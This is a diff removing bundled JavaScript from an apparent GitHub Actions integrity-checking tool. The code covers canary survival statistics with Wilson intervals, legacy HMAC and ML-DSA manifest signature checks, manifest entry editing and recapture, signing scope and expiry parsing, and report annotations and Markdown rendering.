-const FROM_ENV = [
-    ['runner_os', 'RUNNER_OS'],
-    ['runner_name', 'RUNNER_NAME'],
-    ['runner_arch', 'RUNNER_ARCH'],
-    ['repository', 'GITHUB_REPOSITORY'],
-    ['workflow', 'GITHUB_WORKFLOW'],
-    ['job', 'GITHUB_JOB'],
-    ['run_id', 'GITHUB_RUN_ID'],
-    ['run_attempt', 'GITHUB_RUN_ATTEMPT']
-];
-function runContext(env) {
-    const ctx = { platform: `${process.platform}-${process.arch}` };
-    for (const [field, name] of FROM_ENV) {
-        const v = env[name];
-        if (v)
-            ctx[field] = v.slice(0, 200);
-    }
-    if (!ctx.runner_name)
-        ctx.host = external_node_os_default().hostname().slice(0, 200);
-    return ctx;
-}
-/** One short label for tables: `Linux/runner-3`, `host.local`. */
-function contextLabel(ctx) {
-    if (ctx.runner_os || ctx.runner_name)
-        return [ctx.runner_os, ctx.runner_name].filter(Boolean).join('/');
-    return ctx.host ?? ctx.platform;
-}
-
-;// CONCATENATED MODULE: ./src/core/history/wilson.ts
-/**
- * The Wilson score interval for a binomial proportion: unlike the normal approximation it stays
- * inside [0, 1] and does not collapse to zero width at 0 or n successes, which is exactly where
- * survival data lives (a path kept in every one of 6 runs is not "certainly kept").
- */
-/** z for a two-sided 95% interval. */
-const Z95 = 1.959963984540054;
-function wilson(successes, n, z = Z95) {
-    if (!Number.isInteger(successes) ||
-        !Number.isInteger(n) ||
-        n < 0 ||
-        successes < 0 ||
-        successes > n)
-        throw new RangeError(`wilson: need 0 <= successes <= n, got ${successes} of ${n}`);
-    if (n === 0)
-        return { low: 0, high: 1 };
-    const p = successes / n;
-    const z2 = z * z;
-    const centre = p + z2 / (2 * n);
-    const spread = z * Math.sqrt((p * (1 - p)) / n + z2 / (4 * n * n));
-    const denom = 1 + z2 / n;
-    // Clamped to the rate as well as to [0, 1]: at 0 or n successes the formula's bound equals the
-    // rate exactly, and floating point must not put it a rounding step on the wrong side.
-    return {
-        low: successes === 0 ? 0 : Math.max(0, Math.min(p, (centre - spread) / denom)),
-        high: successes === n ? 1 : Math.min(1, Math.max(p, (centre + spread) / denom))
-    };
-}
-
-;// CONCATENATED MODULE: ./src/core/history/stats.ts
-/**
- * Survival statistics from the history: per canary class, per canary location and per manifest
- * entry, the share of runs that kept it whole with its 95% Wilson interval and the number of runs
- * observed (one per reading: probes of one reading are not independent), plus each key's
- * recent trend (newest first) and the survival of every recorded run for charts.
- */
-
-
-const STATS_SCHEMA = 'swr.stats/1';
-const TREND_RUNS = 10;
-function mark(survived, n) {
-    return survived === n ? 'kept' : survived === 0 ? 'lost' : 'partial';
-}
-function observe(map, key, survived, n, time) {
-    if (n === 0)
-        return;
-    const a = map.get(key) ?? { n: 0, survived: 0, probes: 0, intact: 0, marks: [], last: time };
-    const m = mark(survived, n);
-    a.n += 1;
-    a.survived += m === 'kept' ? 1 : 0;
-    a.probes += n;
-    a.intact += survived;
-    a.marks.push(m);
-    a.last = time;
-    map.set(key, a);
-}
-function rows(map) {
-    return ([...map]
-        .map(([key, a]) => {
-        const ci = wilson(a.survived, a.n);
-        return {
-            key,
-            n: a.n,
-            survived: a.survived,
-            probes: a.probes,
-            probes_intact: a.intact,
-            rate: a.survived / a.n,
-            low: ci.low,
-            high: ci.high,
-            trend: a.marks.slice(-TREND_RUNS).reverse(),
-            last_seen: a.last
-        };
-    })
-        // What needs attention first: lowest survival, then fewest observations, then name.
-        .sort((x, y) => x.rate - y.rate || x.n - y.n || x.key.localeCompare(y.key)));
-}
-const total = (t) => t.intact + t.altered + t.lost;
-/** Records must be oldest first (as readHistory returns them). */
-function computeStats(records) {
-    const classes = new Map();
-    const locations = new Map();
-    const entries = new Map();
-    const runs = [];
-    for (const r of records) {
-        if (r.kind === 'canary') {
-            let kept = 0;
-            let all = 0;
-            for (const [k, t] of Object.entries(r.classes)) {
-                observe(classes, k, t.intact, total(t), r.time);
-                kept += t.intact;
-                all += total(t);
-            }
-            for (const [k, t] of Object.entries(r.locations))
-                observe(locations, k, t.intact, total(t), r.time);
-            if (all > 0)
-                runs.push({
-                    time: r.time,
-                    kind: 'canary',
-                    survival: kept / all,
-                    label: contextLabel(r.context)
-                });
-        }
-        else {
-            const statuses = Object.entries(r.entries);
-            for (const [id, status] of statuses)
-                observe(entries, id, status === 'OK' ? 1 : 0, 1, r.time);
-            const ok = statuses.filter(([, s]) => s === 'OK').length;
-            if (statuses.length > 0)
-                runs.push({
-                    time: r.time,
-                    kind: 'check',
-                    survival: ok / statuses.length,
-                    label: contextLabel(r.context)
-                });
-        }
-    }
-    const stats = {
-        schema: STATS_SCHEMA,
-        records: records.length,
-        canary_runs: records.filter(r => r.kind === 'canary').length,
-        check_runs: records.filter(r => r.kind === 'check').length,
-        classes: rows(classes),
-        locations: rows(locations),
-        entries: rows(entries),
-        runs
-    };
-    if (records.length > 0) {
-        stats.first = records[0].time;
-        stats.last = records[records.length - 1].time;
-    }
-    return stats;
-}
-/** How often `id` was damaged in its last `window` recorded checks (for `swr why`). */
-function recentLosses(records, id, window = TREND_RUNS) {
-    const seen = records.flatMap(r => (r.kind === 'check' && id in r.entries ? [r.entries[id]] : []));
-    const last = seen.slice(-window);
-    return { lost: last.filter(s => s !== 'OK').length, of: last.length };
-}
-
-;// CONCATENATED MODULE: ./src/core/manifest/legacy-signature.ts
-/**
- * Checking the original tool's HMAC signature on a format-2 manifest, so `swr import` can carry
- * trust over. Its signing input was Python's json.dumps(manifest without _sig/_pksig,
- * sort_keys=True, separators=(",", ":"), ensure_ascii=False), and its key the 64 ASCII hex
- * characters of its key file, used as text (not decoded). Its ML-DSA-87 signature (`_pksig`,
- * made with OpenSSL: pure ML-DSA, empty context) covers the same bytes; the signer's public key
- * comes from the user (--legacy-pubkey), never from the manifest.
- */
-
-/** Python's code-point order (JavaScript's default sort compares UTF-16 units). */
-function byCodePoint(a, b) {
-    const x = [...a];
-    const y = [...b];
-    for (let i = 0; i < Math.min(x.length, y.length); i++) {
-        const d = (x[i]?.codePointAt(0) ?? 0) - (y[i]?.codePointAt(0) ?? 0);
-        if (d !== 0)
-            return d;
-    }
-    return x.length - y.length;
-}
-/**
- * json.dumps(v, sort_keys=True, separators=(",", ":"), ensure_ascii=False). JSON.stringify escapes
- * strings exactly as Python does with ensure_ascii=False (quote, backslash, \b\f\n\r\t, other
- * controls as lowercase \u00xx); the strict reader has already refused floats and lone surrogates.
- */
-function pythonCanonical(v) {
-    if (v === null || typeof v !== 'object')
-        return JSON.stringify(v);
-    if (Array.isArray(v))
-        return `[${v.map(pythonCanonical).join(',')}]`;
-    const keys = Object.keys(v).sort(byCodePoint);
-    return `{${keys.map(k => `${JSON.stringify(k)}:${pythonCanonical(v[k])}`).join(',')}}`;
-}
-function signedText(v2) {
-    const body = {};
-    for (const [k, x] of Object.entries(v2))
-        if (k !== '_sig' && k !== '_pksig')
-            body[k] = x;
-    return pythonCanonical(body);
-}
-const MLDSA87_PUBLIC_KEY_BYTES = 2592;
-const MLDSA87_SIGNATURE_BYTES = 4627;
-/** DER prefix of an ML-DSA-87 SubjectPublicKeyInfo (OpenSSL's PEM public key). */
-const SPKI_PREFIX = Buffer.from('30820a32300b060960864801650304031303820a2100', 'hex');
-/**
- * The original signer's public key from a file: PEM (as OpenSSL writes it), or the raw key in
- * base64 or hex. Undefined when it is none of these.
- */
-function parseLegacyPublicKey(text) {
-    const pem = /-----BEGIN PUBLIC KEY-----([\s\S]*?)-----END PUBLIC KEY-----/.exec(text);
-    const compact = (pem ? (pem[1] ?? '') : text).replace(/\s+/g, '');
-    const raw = /^[0-9a-fA-F]+$/.test(compact)
-        ? Buffer.from(compact, 'hex')
-        : Buffer.from(compact, 'base64');
-    if (raw.length === MLDSA87_PUBLIC_KEY_BYTES)
-        return raw;
-    if (raw.length === SPKI_PREFIX.length + MLDSA87_PUBLIC_KEY_BYTES &&
-        raw.subarray(0, SPKI_PREFIX.length).equals(SPKI_PREFIX))
-        return raw.subarray(SPKI_PREFIX.length);
-    return undefined;
-}
-/** Check a format-2 document's `_pksig` (its `sig` or `value`, base64 or hex) under `publicKey`. */
-async function verifyLegacyMldsa(v2, publicKey) {
-    const s = v2._pksig;
-    if (typeof s !== 'object' || s === null || Array.isArray(s))
-        return 'absent';
-    const text = s.sig ?? s.value;
-    if (typeof text !== 'string' || text.length > 2 * MLDSA87_SIGNATURE_BYTES)
-        return 'invalid';
-    const sig = /^[0-9a-fA-F]+$/.test(text) ? Buffer.from(text, 'hex') : Buffer.from(text, 'base64');
-    if (sig.length !== MLDSA87_SIGNATURE_BYTES)
-        return 'invalid';
-    const { ml_dsa87 } = await __webpack_require__.e(/* import() */ 925).then(__webpack_require__.bind(__webpack_require__, 4925));
-    try {
-        const msg = Buffer.from(signedText(v2), 'utf8');
-        return ml_dsa87.verify(sig, msg, publicKey) ? 'valid' : 'invalid';
-    }
-    catch {
-        return 'invalid';
-    }
-}
-/** Check a format-2 document's `_sig` against the original tool's key file text. */
-function verifyLegacyHmac(v2, keyFileText) {
-    const sig = v2._sig;
-    if (typeof sig !== 'object' || sig === null || Array.isArray(sig))
-        return 'absent';
-    const value = sig.value;
-    if (typeof value !== 'string' || !/^[0-9a-fA-F]{64}$/.test(value))
-        return 'invalid';
-    const key = Buffer.from(keyFileText.trim(), 'utf8');
-    const want = createHmac('sha256', key).update(signedText(v2), 'utf8').digest();
-    return timingSafeEqual(want, Buffer.from(value, 'hex')) ? 'valid' : 'invalid';
-}
-
-;// CONCATENATED MODULE: ./src/core/manifest/entry-edit.ts
-/**
- * Changing an entry's declared fields (recipes, cache sources, environment, smoke, needs, tier,
- * note, tree bounds, ignore rules, sentinels) without touching what was captured from disk, and
- * saying exactly what changed. Pure: the caller loads, validates and saves.
- */
-
-
-/** Apply `edit` to a copy of `entry`. Throws UsageError naming the flag when it cannot apply. */
-function applyEdit(entry, edit) {
-    const out = structuredClone(entry);
-    const treeOnly = (flag) => {
-        if (out.kind !== 'tree')
-            throw new UsageError(`${flag}: entry "${entry.id}" is a ${entry.kind}; only trees have it`);
-    };
-    setRestore(out, edit);
-    setList(out, 'env', edit.env, '--env', entry.id);
-    setList(out, 'secret_env', edit.secretEnv, '--secret-env', entry.id);
-    out.needs = editList(out.needs, edit.needs, '--needs', entry.id);
-    setScalar(out, 'timeout_s', edit.timeout, edit.clearTimeout);
-    setScalar(out, 'smoke', edit.smoke, edit.clearSmoke);
-    setScalar(out, 'smoke_timeout_s', edit.smokeTimeout, edit.clearSmokeTimeout || edit.clearSmoke);
-    setScalar(out, 'note', edit.note, edit.clearNote);
-    if (edit.tier !== undefined)
-        out.tier = edit.tier;
-    if (edit.minFiles !== undefined || edit.maxFiles !== undefined || edit.clearMaxFiles) {
-        treeOnly(edit.minFiles !== undefined ? '--min-files' : '--max-files');
-    }
-    if (edit.ignore)
-        treeOnly('--ignore');
-    if (edit.sentinels)
-        treeOnly('--sentinel');
-    if (out.kind === 'tree') {
-        if (edit.minFiles !== undefined)
-            out.expect.min_files = edit.minFiles;
-        if (edit.clearMaxFiles)
-            delete out.expect.max_files;
-        if (edit.maxFiles !== undefined)
-            out.expect.max_files = edit.maxFiles;
-        out.ignore = editList(out.ignore, edit.ignore, '--ignore', entry.id);
-        out.expect.sentinels = editList(out.expect.sentinels, edit.sentinels, '--sentinel', entry.id);
-    }
-    return out;
-}
-/**
- * A tree's recorded file count outside its own bounds fails every check of a healthy tree: refuse
- * it when authoring, naming the bound.
- */
-function boundsProblem(e) {
-    if (e.kind !== 'tree' || e.expect.files === undefined)
-        return undefined;
-    const { files, min_files: min, max_files: max } = e.expect;
-    if (files < min)
-        return `entry "${e.id}" field expect.min_files: ${min} is above the ${files} files the tree holds`;
-    if (max !== undefined && files > max)
-        return `entry "${e.id}" field expect.max_files: ${max} is below the ${files} files the tree holds`;
-    return undefined;
-}
-function setScalar(out, key, value, clear) {
-    if (clear)
-        delete out[key];
-    if (value !== undefined)
-        out[key] = value;
-}
-function setList(out, key, edit, flag, id) {
-    if (!edit)
-        return;
-    const next = editList(out[key] ?? [], edit, flag, id);
-    if (next.length === 0)
-        delete out[key];
-    else
-        out[key] = next;
-}
-function editList(current, edit, flag, id) {
-    if (!edit)
-        return [...current];
-    let next = edit.clear ? [] : [...current];
-    for (const d of edit.drop ?? []) {
-        if (!next.includes(d))
-            throw new UsageError(`--drop-${flag.slice(2)} ${d}: entry "${id}" has no such item`);
-        next = next.filter(x => x !== d);
-    }
-    for (const a of edit.add ?? [])
-        if (!next.includes(a))
-            next.push(a);
-    return next;
-}
-function setRestore(out, edit) {
-    if (!edit.clearRestore && edit.restore === undefined && !edit.addCache)
-        return;
-    let sources = edit.clearRestore ? [] : [...restoreSources(out)];
-    if (edit.restore !== undefined) {
-        sources = [...sources.filter(s => typeof s !== 'string'), edit.restore];
-    }
-    if (edit.addCache) {
-        const key = edit.addCache.key;
-        if (sources.some(s => typeof s !== 'string' && s.cache.key === key))
-            throw new UsageError(`--add-source-cache ${key}: entry "${out.id}" already has that cache`);
-        const cache = {
-            cache: {
-                key,
-                ...(edit.addCache.restoreKeys.length > 0
-                    ? { 'restore-keys': edit.addCache.restoreKeys }
-                    : {})
-            }
-        };
-        // Caches are tried before recipes: restoring a cache is cheaper than rebuilding.
-        const firstRecipe = sources.findIndex(s => typeof s === 'string');
-        if (firstRecipe < 0)
-            sources.push(cache);
-        else
-            sources.splice(firstRecipe, 0, cache);
-    }
-    if (sources.length === 0)
-        delete out.restore;
-    else if (sources.length === 1 && typeof sources[0] === 'string')
-        out.restore = sources[0];
-    else
-        out.restore = sources;
-}
-/** Field-by-field differences between two versions of an entry (`expect` field by field). */
-function diffEntry(before, after) {
-    const out = [];
-    const a = before;
-    const b = after;
-    for (const key of unionKeys(a, b)) {
-        if (key === 'expect') {
-            const ea = a.expect;
-            const eb = b.expect;
-            for (const k of unionKeys(ea, eb))
-                if (!same(ea[k], eb[k]))
-                    out.push({ field: `expect.${k}`, before: ea[k], after: eb[k] });
-        }
-        else if (!same(a[key], b[key])) {
-            out.push({ field: key, before: entry_edit_summarise(key, a[key]), after: entry_edit_summarise(key, b[key]) });
-        }
-    }
-    return out;
-}
-function unionKeys(a, b) {
-    return [...new Set([...Object.keys(a), ...Object.keys(b)])];
-}
-function same(x, y) {
-    return JSON.stringify(x) === JSON.stringify(y);
-}
-/** Escrowed bytes are long and not for reading: shown by their encoded length. */
-function entry_edit_summarise(key, v) {
-    if (key !== 'escrow' || v === undefined)
-        return v;
-    const data = v.data;
-    return `${typeof data === 'string' ? data.length : 0} characters escrowed`;
-}
-
-;// CONCATENATED MODULE: ./src/core/recapture.ts
-/**
- * Capturing an entry again after it changed on purpose: new expectations from disk, everything the
- * author declared (recipes, needs, env, note, ignore rules) kept. A tree's sentinels that are gone
- * are dropped (new ones picked when none is left); bounds that followed the old file count follow
- * the new one, and bounds set by hand are kept unless the new count falls outside them.
- */
-
-
-
-async function recaptureEntry(workspace, entry, taken, opts, 
-/** Keep the entry's sentinels as they are: a missing one is refused, not dropped. */
-how = {}) {
-    const others = new Set(taken);
-    others.delete(entry.id);
-    const tree = entry.kind === 'tree' ? entry : undefined;
-    const c = await captureEntry(workspace, {
-        path: entry.path,
-        id: entry.id,
-        kind: entry.kind,
-        tier: entry.tier,
-        ...(tree
-            ? {
-                ignore: tree.ignore,
-                sentinels: how.exactSentinels ? tree.expect.sentinels : liveSentinels(workspace, tree)
-            }
-            : {}),
-        ...(entry.kind === 'blob' ? { fullHash: entry.expect.sha256 !== undefined } : {})
-    }, others, opts);
-    const expect = tree && c.entry.kind === 'tree' ? bounds(tree, c.entry) : c.entry.expect;
-    const next = { ...entry, expect };
-    return c.index ? { entry: next, index: c.index } : { entry: next };
-}
-function liveSentinels(workspace, tree) {
-    const root = locateInside(workspace, tree.path);
-    if (root.state !== 'present' || !root.st.isDirectory())
-        return tree.expect.sentinels;
-    const real = fs.realpathSync(root.abs);
-    const live = tree.expect.sentinels.filter(s => {
-        const loc = locateInside(real, s);
-        return loc.state === 'present' && (!loc.st.isFile() || loc.st.size > 0n);
-    });
-    return live.length > 0 || tree.expect.sentinels.length === 0 ? live : undefined;
-}
-function bounds(old, now) {
-    const files = now.expect.files ?? 0;
-    const was = old.expect.files;
-    const min = was === undefined || old.expect.min_files === was ? files : old.expect.min_files;
-    const oldMax = old.expect.max_files;
-    const max = oldMax === undefined || oldMax === was ? files : oldMax;
-    return { ...now.expect, min_files: Math.min(min, files), max_files: Math.max(max, files) };
-}
-
-;// CONCATENATED MODULE: ./src/core/sign/scope-spec.ts
-/**
- * The signed scope and expiry as a signer spells them on the command line:
- *   --scope repo=OWNER/NAME,ref=refs/heads/main,path=.swr/manifest.json   (or "none")
- *   --scope repo=OWNER/NAME --scope ref=refs/heads/main                   (the same as one list)
- *   --expires 30d | 12h | 2w | 2026-12-31 | 2026-12-31T00:00:00Z            (or "never")
- * Each part is checked against what the gate compares it with, so a scope that can never match
- * (a ref without refs/, a path other than the manifest's own) is refused before it is signed.
- */
-
-
-const REPO = /^[A-Za-z0-9_.-]+\/[A-Za-z0-9_.-]+$/;
-const KEYS = {
-    repo: 'repository',
-    repository: 'repository',
-    ref: 'ref',
-    path: 'manifest_path',
-    manifest_path: 'manifest_path'
-};
-/**
- * `specs` (each --scope given, in order) as one scope; undefined for "none". Every part narrows
- * where the manifest may run, so repeated --scope flags add their parts, as a comma does: keeping
- * only the last would silently drop a limit the signer asked for. `ownPath` is the manifest's path
- * relative to its workspace (undefined when it lies outside): `path` alone means that path.
- */
-function parseScope(specs, ownPath) {
-    const list = typeof specs === 'string' ? [specs] : specs;
-    if (list.includes('none')) {
-        if (list.length > 1)
-            throw new UsageError('--scope none removes the scope: give it alone, not beside other parts');
-        return undefined;
-    }
-    const scope = {};
-    for (const part of list.flatMap(s => s.split(','))) {
-        const eq = part.indexOf('=');
-        const name = eq < 0 ? part : part.slice(0, eq);
-        const value = eq < 0 ? '' : part.slice(eq + 1);
-        const key = KEYS[name.trim()];
-        if (!key)
-            throw new UsageError(`--scope: unknown part "${name}" (use repo=, ref= and path=, or none)`);
-        if (scope[key] !== undefined)
-            throw new UsageError(`--scope: ${name} given twice`);
-        scope[key] = checkPart(key, value.trim(), ownPath);
-    }
-    return scope;
-}
-function checkPart(key, v, ownPath) {
-    switch (key) {
-        case 'repository':
-            if (!REPO.test(v))
-                throw new UsageError(`--scope repo=${v}: must be OWNER/NAME`);
-            return v;
-        case 'ref':
-            if (!v.startsWith('refs/') || v.length > 256)
-                throw new UsageError(`--scope ref=${v}: must be a full ref or glob of at most 256 characters, e.g. refs/heads/main or refs/tags/v*`);
-            try {
-                picomatch.makeRe(v, { dot: true });
-            }
-            catch {
-                throw new UsageError(`--scope ref=${v}: not a valid glob`);
-            }
-            return v;
-        case 'manifest_path':
-            if (ownPath === undefined)
-                throw new UsageError('--scope path: the manifest lies outside its workspace, so no run could match a path scope');
-            if (v !== '' && v !== ownPath)
-                throw new UsageError(`--scope path=${v}: this manifest is read from ${ownPath}; a path scope naming another path never matches`);
-            return ownPath;
-    }
-}
-const UNIT_MS = { h: 3600e3, d: 86400e3, w: 7 * 86400e3 };
-/** Longest expiry a signer may set: ten years. */
-const MAX_MS = (/* unused pure expression or super */ null && (3653 * 86400e3));
-/** `spec` as an expiry timestamp after `now`; undefined for "never". */
-function parseExpiry(spec, now) {
-    if (spec === 'never')
-        return undefined;
-    let at;
-    const rel = /^(\d{1,6})([hdw])$/.exec(spec);
-    if (rel)
-        at = now.getTime() + Number(rel[1]) * UNIT_MS[rel[2]];
-    else if (/^\d{4}-\d{2}-\d{2}(T\d{2}:\d{2}:\d{2}Z)?$/.test(spec)) {
-        const full = spec.length === 10 ? `${spec}T00:00:00Z` : spec;
-        at = Date.parse(full);
-        // Date.parse rolls 2026-02-30 over to March: a real date reads back the same.
-        if (Number.isNaN(at) || new Date(at).toISOString().slice(0, 19) !== full.slice(0, 19))
-            throw new UsageError(`--expires ${spec}: not a real date`);
-    }
-    else
-        throw new UsageError(`--expires ${spec}: give a duration (12h, 30d, 2w), a date (2026-12-31), a UTC time (2026-12-31T00:00:00Z) or never`);
-    if (at <= now.getTime())
-        throw new UsageError(`--expires ${spec}: is not in the future`);
-    if (at - now.getTime() > MAX_MS)
-        throw new UsageError(`--expires ${spec}: more than ten years away`);
-    return new Date(at).toISOString().replace(/\.\d+Z$/, 'Z');
-}
-
-;// CONCATENATED MODULE: ./src/core/report/severity.ts
-const RANK = {
-    MISSING: 0,
-    EMPTY: 1,
-    TYPE: 2,
-    CORRUPT: 3,
-    BROKENLNK: 4,
-    SMOKEFAIL: 5,
-    STRIPPED: 6,
-    SKIPPED: 7,
-    OK: 8
-};
-/** SARIF's level of each status; annotations use the same (`note` is GitHub's `notice`). */
-const LEVEL = {
-    OK: 'note',
-    MISSING: 'error',
-    CORRUPT: 'error',
-    STRIPPED: 'warning',
-    EMPTY: 'error',
-    BROKENLNK: 'error',
-    TYPE: 'error',
-    SKIPPED: 'warning',
-    SMOKEFAIL: 'error'
-};
-/** Damaged findings, most severe first, then by tier (what blocks the most comes first). */
-function bySeverity(findings) {
-    return findings
-        .filter(f => f.status !== 'OK')
-        .sort((a, b) => RANK[a.status] - RANK[b.status] || a.tier - b.tier || (a.id < b.id ? -1 : 1));
-}
-
-;// CONCATENATED MODULE: ./src/core/report/limits.ts
-/**
- * How much of each channel GitHub gives a step, and the share swr takes, in one place. GitHub's
- * documented limits:
- *
- * - Step and job outputs: 1 MB per job in total, 50 MB per workflow run, size counted as UTF-16.
- * - Job summary: 1 MiB (1024 KiB) per step; a larger GITHUB_STEP_SUMMARY is dropped whole.
- * - Annotations: 10 error, 10 warning and 10 notice annotations shown per step, 50 per job.
- * - Code scanning SARIF: 25,000 results per run accepted, the 5,000 most severe shown; 10 MB
- *   (gzip-compressed) per upload.
- *
- * swr's outputs together stay under a quarter of the job's 1 MB, so the other steps of the job
- * keep the rest. Whatever a bound leaves out is counted where it was cut, and the full JSON report
- * (the `report-path` output) always has everything.
- */
-/** GitHub: bytes of one step's summary. */
-const GITHUB_SUMMARY_BYTES = 1024 * 1024;
-/** GitHub: annotations of each level (error, warning, notice) shown per step. */
-const GITHUB_ANNOTATIONS_PER_LEVEL = 10;
-/** GitHub: SARIF results shown per run (more are accepted up to 25,000, and not shown). */
-const GITHUB_SARIF_RESULTS_SHOWN = 5000;
-/** The summary swr writes: the step's limit less room for the markers that say what was cut. */
-const SUMMARY_BUDGET = GITHUB_SUMMARY_BYTES - 16 * 1024;
-/** The `report` output (compact JSON). */
-const REPORT_OUTPUT_BYTES = 64 * 1024;
-/** The `damaged` and `repaired` outputs (JSON arrays of ids), each. */
-const ID_LIST_OUTPUT_BYTES = 16 * 1024;
-/** The `stats` output (survival JSON). */
-const STATS_OUTPUT_BYTES = 64 * 1024;
-/** The `canary` output (planting or reading JSON). */
-const CANARY_OUTPUT_BYTES = 64 * 1024;
-/** Ids an overflow notice names before it only counts the rest. */
-const NOTICE_IDS = 20;
-/** Characters of one annotation's message (GitHub shows a few lines of it anyway). */
-const ANNOTATION_MESSAGE_CHARS = 2048;
-/** Rows of each survival table in a summary (classes, locations, entries). */
-const SURVIVAL_TABLE_ROWS = 200;
-/** Results in a SARIF file: the ones code scanning shows. */
-const SARIF_RESULTS = GITHUB_SARIF_RESULTS_SHOWN;
-/**
- * What an output of `text` costs against GitHub's budget: GitHub counts UTF-16, and the bytes on
- * disk are UTF-8; the larger of the two.
- */
-function outputSize(text) {
-    return Math.max(Buffer.byteLength(text, 'utf8'), text.length * 2);
-}
-
-;// CONCATENATED MODULE: ./src/core/report/annotations.ts
-
-
-
-const annotations_e = (s, max = ANNOTATION_MESSAGE_CHARS) => escape_escapeText(s, { max });
-function levelOf(status) {
-    const l = LEVEL[status];
-    return l === 'note' ? 'notice' : l;
-}
-function annotationsFor(report, ctx) {
-    const room = (l) => Math.max(0, ctx.room?.[l] ?? GITHUB_ANNOTATIONS_PER_LEVEL);
-    // One notice is kept back for the overflow count.
-    const left = {
-        error: room('error'),
-        warning: room('warning'),
-        notice: room('notice') - 1
-    };
-    const out = [];
-    const cut = [];
-    const adviceById = new Map(report.diagnosis.advice.map(a => [a.id, a]));
-    for (const f of bySeverity(report.results)) {
-        const level = levelOf(f.status);
-        const advice = adviceById.get(f.id);
-        const message = annotations_e(`${annotations_e(f.detail)}${advice ? `\nCause: ${annotations_e(advice.cause)}\nFix: ${annotations_e(advice.fix)}` : ''}`);
-        const title = `swr: ${f.status} ${annotations_e(f.id, 200)}`;
-        const places = [
-            { level, title, message, file: ctx.manifestUri, startLine: ctx.lines.get(f.id) ?? 1 }
-        ];
-        const own = f.kind === 'file' || f.kind === 'blob' ? ctx.trackedPath(f.path) : undefined;
-        if (own)
-            places.push({ level, title, message, file: own, startLine: 1 });
-        if (places.length > left[level]) {
-            cut.push(`${f.status} ${annotations_e(f.id, 200)}`);
-            continue;
-        }
-        left[level] -= places.length;
-        out.push(...places);
-    }
-    if (cut.length > 0 && room('notice') > 0)
-        out.push(overflowNotice(cut, ctx.reportPath));
-    return out;
-}
-/** The entries left unannotated: counted, the first few named, and where to find them all. */
-function overflowNotice(cut, reportPath) {
-    const named = cut.slice(0, NOTICE_IDS).join(', ');
-    const more = cut.length > NOTICE_IDS ? ` and ${cut.length - NOTICE_IDS} more` : '';
-    return {
-        level: 'notice',
-        title: `swr: ${cut.length} more damaged entries not annotated`,
-        message: `${named}${more}. GitHub shows ${GITHUB_ANNOTATIONS_PER_LEVEL} annotations of each level per step; the job summary and the full report${reportPath ? ` (${annotations_e(reportPath, 1024)})` : ''} list every entry.`
-    };
-}
-
-;// CONCATENATED MODULE: ./src/core/report/canary.ts
-/**
- * A canary read for people: totals, a table by class (with the attributes that changed) and by
- * location, then one line per probe that did not come back intact.
- */
-
-
-
-
-
-function totals(t) {
-    const n = t.intact + t.altered + t.lost;
-    return `${n} probes: ${t.intact} intact, ${t.altered} altered, ${t.lost} lost`;
-}
-function attrs(a) {
-    return Object.entries(a)
-        .map(([k, n]) => `${k} ${n}`)
-        .join(', ');
-}
-function header(r) {
-    return `canary ${escape_escapeText(r.plant_id)}: planted ${r.planted_at.slice(0, 19)}Z on ${contextLabel(r.planted_by)}, read ${r.read_at.slice(0, 19)}Z on ${contextLabel(r.read_by)}${r.reread ? ' (read before)' : ''}`;
-}
-function renderCanaryText(r) {
-    const lines = [header(r), totals(r.totals), ''];
-    const classes = Object.entries(r.classes);
-    const cw = Math.max(...classes.map(([c]) => c.length), 5);
-    lines.push(`${'class'.padEnd(cw + 2)}${'intact'.padStart(7)}${'altered'.padStart(8)}${'lost'.padStart(6)}  changed`);
-    for (const [c, t] of classes) {
-        if (!t)
-            continue;
-        lines.push(`  ${c.padEnd(cw)}${String(t.intact).padStart(7)}${String(t.altered).padStart(8)}${String(t.lost).padStart(6)}  ${attrs(t.attributes)}`);
-    }
-    lines.push('');
-    const locs = Object.entries(r.locations);
-    const lw = Math.max(...locs.map(([l]) => escape_escapeText(l).length), 8);
-    lines.push(`${'location'.padEnd(lw + 2)}${'intact'.padStart(7)}${'altered'.padStart(8)}${'lost'.padStart(6)}`);
-    for (const [l, t] of locs)
-        lines.push(`  ${escape_escapeText(l).padEnd(lw)}${String(t.intact).padStart(7)}${String(t.altered).padStart(8)}${String(t.lost).padStart(6)}`);
-    const bad = r.probes.filter(p => p.outcome.state !== 'intact');
-    if (bad.length > 0) {
-        lines.push('');
-        for (const p of bad) {
-            const o = p.outcome;
-            const what = o.state === 'altered' ? `${o.attributes.join(',')}: ${escape_escapeText(o.detail)}` : 'gone';
-            lines.push(`${o.state.toUpperCase().padEnd(8)} ${p.class.padEnd(cw)}  ${escape_escapeText(p.location)}  ${escape_escapeText(abbreviate(p.path))}  ${what}`);
-        }
-    }
-    return lines.join('\n') + '\n';
-}
-function cell(x) {
-    return escapeMarkdown(x);
-}
-function renderCanaryMarkdown(r) {
-    const icon = r.totals.altered + r.totals.lost === 0 ? '✅' : '⚠️';
-    const lines = [
-        `### ${icon} swr canary: ${totals(r.totals)}`,
-        '',
-        `<sub>${cell(header(r))}</sub>`,
-        '',
-        '| probe class | what it tests | intact | altered | lost | changed |',
-        '| --- | --- | ---: | ---: | ---: | --- |'
-    ];
-    for (const [c, t] of Object.entries(r.classes))
-        lines.push(`| \`${c}\` | ${CLASS_QUESTION[c]} | ${t.intact} | ${t.altered} | ${t.lost} | ${attrs(t.attributes)} |`);
-    lines.push('', '| location | intact | altered | lost |', '| --- | ---: | ---: | ---: |');
-    const locations = Object.entries(r.locations);
-    for (const [l, t] of locations.slice(0, SURVIVAL_TABLE_ROWS))
-        lines.push(`| ${markdownCode(l, { max: 256 })} | ${t.intact} | ${t.altered} | ${t.lost} |`);
-    if (locations.length > SURVIVAL_TABLE_ROWS)
-        lines.push(`| … ${locations.length - SURVIVAL_TABLE_ROWS} more locations | | | |`);
-    return lines.join('\n') + '\n';
-}
-
-;// CONCATENATED MODULE: ./src/core/report/markdown.ts
-
-
-
-/** One cell's text: a hostile 10 MB detail must not take the whole summary. */
-const CELL_CHARS = 1024;
-const ICON = {
-    healthy: '✅',
-    repaired: '🛠️',
-    damaged: '❌',
-    unrepairable: '❌',
-    'still-damaged': '❌',
-    refused: '⛔',
-    interrupted: '⏹️'
-};
-/** Untrusted text in a table cell or a line: literal, one line, no Markdown or HTML. */
-function markdown_cell(s) {
-    return escapeMarkdown(s, { max: CELL_CHARS });
-}
-function markdown_shown(v) {
-    return Object.entries(v)
-        .map(([k, x]) => `${k} ${typeof x === 'number' && k !== 'mode' ? x.toLocaleString('en-US') : String(x)}`)
-        .join(', ');
-}
-function isRepair(r) {
-    return 'repair' in r;
-}
